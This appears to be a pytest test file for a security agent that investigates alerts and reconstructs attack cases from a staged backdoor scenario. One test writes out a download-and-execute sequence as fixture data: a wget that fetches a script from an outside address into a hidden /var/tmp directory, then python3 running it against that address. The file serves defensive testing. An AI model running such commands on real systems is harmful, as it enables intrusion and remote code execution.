"""A case grows back to its entry and forward to its effects, and not into what has nothing to do with it."""

import pytest

from tests.agent.staging import Stage, backdoor
from watchfloor.agent.case import Alert
from watchfloor.agent.investigating import Investigator, alerts_of


@pytest.mark.parametrize("seed", ["entry", "fetch", "shell", "beacon", "call"])
def test_any_record_of_an_attack_leads_to_the_same_entry_and_effects(seed):
    stage, ids = backdoor()
    found = Investigator(stage.index()).investigate(Alert("c", (ids[seed],)))
    assert set(ids.values()) <= set(found.operations)
    assert found.root_cause is not None and ids["entry"] in found.root_cause.event_ids
    assert found.verdict == "malicious"
    assert not found.rejected


def test_ordinary_work_stays_out_of_the_case():
    stage, ids = backdoor()
    found = Investigator(stage.index()).investigate(Alert("c", (ids["beacon"],)))
    index = stage.index()
    rows = [index.row_of(i) for i in found.operations]
    assert not any("logtool" in (index.event(row)["process.cmd_line"] or "") for row in rows)


def test_an_alert_on_ordinary_work_is_closed_as_benign():
    stage, _ = backdoor()
    found = Investigator(stage.index()).investigate(Alert("c", ("made.log#1",)))
    assert found.verdict == "benign"
    assert len(found.operations) <= 4


def test_every_process_of_a_case_carries_its_reason():
    stage, ids = backdoor()
    index = stage.index()
    from watchfloor.agent.growing import Growth

    growth = Growth(index)
    growth.seed([index.owners[index.row_of(ids["call"])]])
    growth.run()
    assert all(reason.step for reason in growth.members.values())
    assert {r.step for r in growth.members.values()} >= {"alert", "trace"}


def test_a_circle_in_hostile_lineage_ends():
    stage = Stage()
    stage.run(1, 10, 11, "/bin/sh a")
    stage.run(2, 11, 10, "/bin/sh b")
    found = Investigator(stage.index()).investigate(Alert("c", ("made.log#1",)))
    assert found.operations


def test_two_attacks_on_one_host_are_two_cases():
    stage, ids = backdoor()
    other = "198.51.100.7"
    first = stage.run(900, 600, 61, f"/bin/sh -c 'wget http://{other}/z.py -O /var/tmp/.q/z.py'", "mail")
    stage.connect(901, 600, other)
    second = stage.run(905, 601, 62, f"python3 /var/tmp/.q/z.py {other}", "mail")
    investigator = Investigator(stage.index())
    one, two = (investigator.investigate(Alert("c", (i,))) for i in (ids["shell"], second))
    assert first in two.operations and first not in one.operations
    assert not set(one.operations) & set(two.operations)


def test_an_alert_of_another_recording_is_an_open_question_not_a_verdict():
    stage, _ = backdoor()
    found = Investigator(stage.index()).investigate(Alert("c", ("elsewhere.log#7",)))
    assert not found.operations and found.confidence == 0.0 and found.open_questions


def test_alerts_come_from_lines_of_watch_rules_and_reduce():
    lines = [
        {"type": "scene", "scene_id": "s", "verdict": "malicious", "key_frames": [{"event_id": "a#1"}, "no frame"],
         "techniques": [{"id": "T1059", "score": 0.9}, {"id": "T1000", "score": 0.01}]},
        {"type": "match", "rule_id": "r", "event_ids": ["a#2"], "title": "t", "level": "high", "techniques": ["T1003"]},
        {"type": "incident", "incident_id": "i", "alert_ids": ["a:3"]},
        {"type": "summary"},
    ]  # fmt: skip
    scene, match, incident = alerts_of(lines)
    assert (scene.event_ids, scene.techniques) == (("a#1",), ("T1059",))
    assert match.level == "high" and incident.event_ids == ("a:3",)
